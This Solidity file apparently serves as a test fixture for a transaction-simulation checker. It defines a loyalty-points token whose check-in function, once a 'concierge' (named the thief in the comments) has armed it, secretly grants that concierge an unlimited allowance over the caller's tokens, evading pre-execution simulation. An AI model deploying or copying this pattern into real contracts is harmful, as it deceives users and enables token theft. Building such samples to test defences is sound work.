// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// @title RedPillArmedGrant
/// @notice Red pill keyed on state a third party sets, not on the transaction or block: no
///         other run of the same transaction tells it apart. A loyalty-points token with a
///         check-in that looks up, through its own `allowance` view, whether the caller
///         approved the concierge, and moves nothing. Once the concierge (the thief) has called
///         `arm` in a transaction of its own, between the simulation and the execution or
///         earlier in the same block, the check-in also gives the concierge an unlimited
///         allowance over the caller's points, which it uses later: every balance the PDR
///         bounds ends as simulated.
contract RedPillArmedGrant is ERC20 {
    address private immutable _concierge;

    /// @notice Whether the next check-in grants.
    bool public armed;
    /// @notice Check-ins by callers who had approved the concierge.
    uint256 public vipVisits;

    /// @param concierge Who is given the allowance once armed.
    /// @param holder Who is minted `amount` points.
    /// @param amount The points minted.
    constructor(address concierge, address holder, uint256 amount) ERC20("Loyalty points", "PTS") {
        _concierge = concierge;
        _mint(holder, amount);
    }

    /// @notice Arms the grant; only the concierge.
    function arm() external {
        require(msg.sender == _concierge, "not the concierge");
        armed = true;
    }

    /// @notice Records a visit of the caller.
    function checkIn() external {
        if (this.allowance(msg.sender, _concierge) != 0) ++vipVisits;
        if (armed) _approve(msg.sender, _concierge, type(uint256).max);
    }
}
